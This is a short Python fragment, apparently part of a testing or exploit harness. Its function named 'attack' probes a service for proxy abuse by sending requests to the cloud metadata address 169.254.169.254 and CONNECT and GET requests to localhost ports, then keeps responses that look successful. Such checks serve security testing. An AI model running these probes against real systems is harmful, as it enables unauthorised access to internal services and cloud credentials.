# include: ask.py
def attack(inputs):
    answers = [
        send(request("x", host="169.254.169.254")),
        send(f"CONNECT 127.0.0.1:{inputs['port']} HTTP/1.1\r\nHost: 127.0.0.1:{inputs['port']}\r\n\r\n"),
        send(f"GET http://127.0.0.1:{inputs['port']}/ HTTP/1.1\r\nHost: 127.0.0.1:{inputs['port']}\r\n\r\n"),
    ]
    return [answer[:60] for answer in answers if "200" in answer[:20]]
